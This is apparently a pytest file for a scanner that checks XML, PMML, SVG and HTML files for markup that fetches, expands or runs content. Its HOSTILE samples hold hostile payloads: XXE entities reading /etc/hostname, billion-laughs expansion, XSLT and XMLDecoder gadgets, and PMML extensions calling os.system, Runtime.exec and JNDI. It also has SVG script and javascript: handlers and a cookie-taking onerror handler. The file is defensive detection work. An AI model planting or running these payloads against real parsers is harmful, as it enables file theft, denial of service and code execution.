"""XML, PMML, SVG and HTML: what makes a reader fetch, expand or run is found; models pass."""

from __future__ import annotations

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from samples.scanned import assert_clean, grave_rules_of, rules_of, scanned

PMML = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">{}</PMML>'
REGRESSION = PMML.format(
    """<Header copyright="somebody"><Application name="SkLearn2PMML" version="0.1"/>
    <Timestamp>2026-01-01T00:00:00Z</Timestamp></Header>
  <MiningBuildTask><Extension name="repr">PMMLPipeline(steps=[('classifier',
    LogisticRegression(C=1.0))])</Extension></MiningBuildTask>
  <DataDictionary><DataField name="x" optype="continuous" dataType="double"/>
    <DataField name="y" optype="continuous" dataType="double"/></DataDictionary>
  <TransformationDictionary><DefineFunction name="add" optype="continuous">
    <ParameterField name="a"/><Apply function="+"><FieldRef field="a"/>
    <Constant dataType="double">1</Constant></Apply></DefineFunction></TransformationDictionary>
  <RegressionModel functionName="regression" algorithmName="linear_model.LinearRegression">
    <MiningSchema><MiningField name="y" usageType="target"/><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="1.5"><NumericPredictor name="x" coefficient="2"/></RegressionTable>
  </RegressionModel>"""
)
TREES = PMML.format(
    """<DataDictionary numberOfFields="1"><DataField name="x" optype="continuous"
    dataType="double"/></DataDictionary>
  <MiningModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>
   <Segmentation multipleModelMethod="sum"><Segment id="1"><True/>
    <TreeModel functionName="regression" splitCharacteristic="binarySplit"><MiningSchema/>
     <Node score="1"><True/><Node score="2"><SimplePredicate field="x" operator="lessOrEqual"
      value="0.5"/></Node></Node></TreeModel></Segment></Segmentation></MiningModel>"""
)
NEURAL = PMML.format(
    """<NeuralNetwork functionName="regression" activationFunction="logistic"><MiningSchema/>
    <NeuralInputs><NeuralInput id="0"><DerivedField optype="continuous" dataType="double">
    <FieldRef field="x"/></DerivedField></NeuralInput></NeuralInputs><NeuralLayer>
    <Neuron id="1" bias="1"><Con from="0" weight="2"/></Neuron></NeuralLayer></NeuralNetwork>"""
)
OPENVINO = """<?xml version="1.0"?>
<net name="torch-model" version="11"><layers>
 <layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/>
  <output><port id="0" precision="FP32" names="x"><dim>1</dim><dim>3</dim></port></output></layer>
 <layer id="1" name="w" type="Const" version="opset1">
  <data element_type="f32" shape="3,3" offset="0" size="36"/></layer>
 </layers><edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/></edges>
 <rt_info><MO_version value="2024.0"/><conversion_parameters>
  <input_model value="DIR/model.onnx"/></conversion_parameters></rt_info></net>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
HTML = "<!DOCTYPE html><html><head><title>Card</title></head><body>{}</body></html>"
CASCADE = (
    '<?xml version="1.0"?>\n<opencv_storage><cascade><height>24</height></cascade></opencv_storage>'
)
PLIST = (
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN"'
    ' "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>'
)

HONEST = {
    "regression.pmml": REGRESSION,
    "trees.pmml": TREES,
    "neural.pmml": NEURAL,
    "model.xml": OPENVINO,
    "picture.svg": SVG.format('<path d="M 0 0 L 1 1"/><a xlink:href="https://example.com"/>'
                              '<use xlink:href="#m" x="1"/><style>*{fill:red}</style>'),
    "card.html": HTML.format("<h1>Card</h1><a href='https://example.com'>more</a>"),
    "cascade.xml": CASCADE,
    "info.plist": PLIST,
    "README.md": "<p align='center'><img src='https://example.com/x.png'></p>\n\n# Title\n\n"
    "Run `powershell` and `import os; os.system(...)`.\n<br>\n",
    "notes.md": "<!-- a comment -->\n# Words\n\nAbout <b>models</b> & more.\n",
    "styles.xml": '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    "latin.xml": '<?xml version="1.0" encoding="ISO-8859-1"?><a>Gr\xfc\xdfe</a>',
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_honest_markup_has_no_finding(name):
    encoding = "latin-1" if name == "latin.xml" else "utf-8"
    assert_clean(scanned(HONEST[name].encode(encoding), name))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_honest_markup_passes_in_every_encoding_that_says_so(encoding):
    assert_clean(scanned(TREES.encode(encoding), "x.pmml"))


def test_what_libraries_write_has_no_finding():
    pyplot = pytest.importorskip("matplotlib.figure", reason="matplotlib draws the picture")
    figure = pyplot.Figure()
    figure.subplots().plot([1, 2], [3, 4], label="a line")
    target = io.BytesIO()
    figure.savefig(target, format="svg")
    assert_clean(scanned(target.getvalue(), "plot.svg"))


def test_catboosts_pmml_has_no_finding(tmp_path):
    catboost = pytest.importorskip("catboost", reason="catboost writes the model")
    model = catboost.CatBoostRegressor(iterations=2, verbose=0, allow_writing_files=False)
    model.fit([[1], [2], [3]], [1, 2, 3])
    model.save_model(str(tmp_path / "x.pmml"), format="pmml")
    assert_clean(scanned((tmp_path / "x.pmml").read_bytes(), "x.pmml"))


XXE = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
) + "]>"  # fmt: skip
EXTENSION = '<Extension name="x">{}</Extension>'

HOSTILE = {
    "external entity": (XXE + PMML.format("<Header copyright='&x;'/>"), "XML-ENTITY"),
    "entity from an address": (
        '<!DOCTYPE a [<!ENTITY x SYSTEM "http://host.example/x">]><a>&x;</a>', "XML-ENTITY"),
    "public entity": ('<!DOCTYPE a [<!ENTITY x PUBLIC "p" "u">]><a>&x;</a>', "XML-ENTITY"),
    "billion laughs": (LAUGHS + "<a>&a9;</a>", "XML-ENTITY"),
    "quadratic blow-up": (
        f"<!DOCTYPE a [<!ENTITY x '{'y' * 50_000}'>]><a>{'&x;' * 1000}</a>", "XML-ENTITY"),
    "parameter entity": (
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://host.example/x.dtd"> %x;]><a/>', "XML-ENTITY"),
    "declaration first": ('<?xml version="1.0"?>\n' + XXE + PMML.format(""), "XML-ENTITY"),
    "comment first": ("<!-- x -->" + XXE + PMML.format("&x;"), "XML-ENTITY"),
    "entity in an SVG": (XXE.replace("PMML", "svg") + SVG.format("&x;"), "XML-ENTITY"),
    "entity in a page": (XXE.replace("PMML", "html") + "<html>&x;</html>", "XML-ENTITY"),
    "external DTD": ('<!DOCTYPE a SYSTEM "http://host.example/a.dtd"><a/>', "XML-DOCTYPE"),
    "unknown public DTD": ('<!DOCTYPE a PUBLIC "-//X//X" "x.dtd"><a/>', "XML-DOCTYPE"),
    "attributes set by the document type": (
        '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg/>', "XML-SCRIPT"),
    "own type and one from elsewhere": (
        '<!DOCTYPE a SYSTEM "http://host.example/a.dtd" [<!ELEMENT a ANY>]><a/>', "XML-DOCTYPE"),
    "XInclude": (
        ('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hostname"'
        ' parse="text"/></a>'), "XML-INCLUDE"),
    "XInclude under another prefix": (
        '<PMML><q:include xmlns:q="http://www.w3.org/2001/XInclude" href="x"/></PMML>',
        "XML-INCLUDE"),
    "style sheet": (
        '<?xml-stylesheet type="text/xsl" href="http://host.example/x.xsl"?><a/>',
        "XML-STYLESHEET"),
    "XSLT": (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
        "XML-RUNS"),
    "XSLT with Java": (
        '<x xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime"/>', "XML-RUNS"),
    "XSLT with C#": ('<x xmlns:msxsl="urn:schemas-microsoft-com:xslt"/>', "XML-RUNS"),
    "XMLDecoder": (
        ('<java version="1" class="java.beans.XMLDecoder"><object class="java.lang.Process"/>'
        "</java>"), "XML-RUNS"),
    "XStream": ("<sorted-set><dynamic-proxy/></sorted-set>", "XML-RUNS"),
    "XAML": (
        '<ObjectDataProvider MethodName="Start" xmlns:s="clr-namespace:System"/>', "XML-RUNS"),
    "package of Windows scripts": (
        '<package><job id="a"><object id="b" progid="WScript.Shell"/></job></package>',
        "XML-RUNS"),
    "build file": ('<project><exec executable="sh"/></project>', "XML-RUNS"),
    "extension with Python": (
        PMML.format(EXTENSION.format("import os; os.system('true')")), "PMML-CODE"),
    "extension with eval": (PMML.format(EXTENSION.format("eval('1')")), "PMML-CODE"),
    "extension with Java": (
        PMML.format(EXTENSION.format("Runtime.getRuntime().exec('true')")), "PMML-CODE"),
    "extension with a shell": (PMML.format(EXTENSION.format("/bin/sh -c true")), "PMML-CODE"),
    "extension in an attribute": (
        PMML.format('<Extension name="x" value="__import__(&quot;os&quot;)"/>'), "PMML-CODE"),
    "extension by characters": (
        PMML.format(EXTENSION.format("&#105;mport &#111;s")), "PMML-CODE"),
    "extension in CDATA": (
        PMML.format(EXTENSION.format("<![CDATA[<script>1</script>]]>")), "PMML-CODE"),
    "extension split by a comment": (
        PMML.format(EXTENSION.format("imp<!-- -->ort os")), "PMML-CODE"),
    "extension with an address": (
        PMML.format(EXTENSION.format("http://host.example/x")), "PMML-CODE"),
    "extension with a script element": (
        PMML.format(EXTENSION.format("<script>1</script>")), "XML-SCRIPT"),
    "extension with JNDI": (
        PMML.format('<Extension value="${jndi:ldap://host.example/a}"/>'), "PMML-CODE"),
    "function of a class": (
        PMML.format('<Apply function="com.example.Evil"><FieldRef field="x"/></Apply>'),
        "PMML-CODE"),
    "OpenVINO with a library": (
        OPENVINO.replace("<MO_version", '<extension library="/tmp/x.so"/><MO_version'),
        "XML-EXTERNAL"),
    "OpenVINO with a way out": (
        OPENVINO.replace("DIR/model.onnx", "../../etc/hostname"), "XML-EXTERNAL"),
    "script in an SVG": (SVG.format("<script>alert(1)</script>"), "XML-SCRIPT"),
    "handler in an SVG": (SVG.format('<g onload="alert(1)"/>'), "XML-SCRIPT"),
    "frame in an SVG": (
        SVG.format('<foreignObject><iframe src="x"/></foreignObject>'), "XML-SCRIPT"),
    "script address in an SVG": (
        SVG.format('<a xlink:href=" java&#10;script:alert(1)"/>'), "XML-SCRIPT"),
    "animated address in an SVG": (
        SVG.format('<animate attributeName="href" values="javascript:alert(1)"/>'), "XML-SCRIPT"),
    "picture from elsewhere": (
        SVG.format('<image xlink:href="http://host.example/x.png"/>'), "XML-EXTERNAL"),
    "use from elsewhere": (SVG.format('<use href="file:///etc/x.svg#a"/>'), "XML-EXTERNAL"),
    "template from elsewhere": (
        ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://host.example/t.dotm"'
        ' TargetMode="External"/></Relationships>'), "XML-EXTERNAL"),
    "UTF-7": ('<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-<a/>', "XML-ENCODING"),
    "EBCDIC": ('<?xml version="1.0" encoding="cp037"?><a/>', "XML-ENCODING"),
    "page that fetches": (HTML.format("<script>fetch('x')</script>"), "HTML-ACTIVE"),
    "page that takes cookies": (
        HTML.format("<img src=x onerror='y(document.cookie)'>"), "HTML-ACTIVE"),
    "page for Windows": (
        HTML.format("<script>new ActiveXObject('WScript.Shell')</script>"), "HTML-ACTIVE"),
    "PHP in XML": ("<?xml version='1.0'?><a><?php echo 1; ?></a>", "XML-SCRIPT"),
}  # fmt: skip


def test_a_package_that_is_no_package_of_scripts_has_no_finding():
    text = '<package format="3"><name>coal</name><export><build_type>cmake</build_type></export>'
    assert_clean(scanned(f"<?xml version='1.0'?>{text}</package>".encode(), "package.xml"))


@pytest.mark.parametrize("name", ["x.pmml", "x.txt", "x.svg"])
@pytest.mark.parametrize("sample", HOSTILE)
def test_hostile_markup_is_found_under_any_name(sample, name):
    text, rule = HOSTILE[sample]
    assert rule in grave_rules_of(scanned(text.encode(), name))


@pytest.mark.parametrize("sample", ["external entity", "billion laughs", "extension with Python"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_an_encoding_hides_nothing(sample, encoding):
    text, rule = HOSTILE[sample]
    assert rule in grave_rules_of(scanned(text.encode(encoding), "x.pmml"))


def test_a_script_in_a_page_is_told():
    for body in ("<script>let a = 1</script>", "<p onclick='x()'>", "<iframe src='x'></iframe>"):
        assert rules_of(scanned(HTML.format(body).encode(), "card.html")) == {"HTML-SCRIPT"}


def test_a_document_type_without_entities_is_told():
    text = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ELEMENT svg ANY>]><svg/>'
    assert rules_of(scanned(text.encode(), "x.svg")) == {"XML-DOCTYPE"}
    assert not grave_rules_of(scanned(text.encode(), "x.svg"))


def test_words_about_code_in_any_other_xml_are_told():
    report = scanned(b"<feed><p>Call eval(x) there.</p></feed>", "feed.xml")
    assert rules_of(report) == {"PMML-CODE"}
    assert not grave_rules_of(report)


def test_xml_that_breaks_off_is_unread():
    assert scanned(REGRESSION[:-20].encode(), "x.pmml").unread_parts
    assert scanned((SVG.format("") + "trailing").encode(), "x.svg").unread_parts
    assert scanned(b"<PMML>" * 6000 + b"</PMML>" * 6000, "x.pmml").unread_parts


def test_a_token_without_end_is_given_up(monkeypatch):
    from tidegate.scanners.markup import xml_events

    monkeypatch.setattr(xml_events, "_LONGEST_TOKEN", 1 << 19)
    assert scanned(b"<PMML a='" + b"x" * (2 << 20) + b"'/>", "x.pmml").unread_parts


def test_entity_words_in_a_comment_are_no_finding():
    assert_clean(scanned(b"<PMML><!-- <!ENTITY x SYSTEM 'y'> --></PMML>", "x.pmml"))


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(HOSTILE)), st.integers(0, 400), st.binary(max_size=4))
def test_changed_markup_is_read_without_an_error(sample, at, new):
    data = HOSTILE[sample][0].encode()
    scanned(data[:at] + new + data[at + len(new) :], "x.xml")
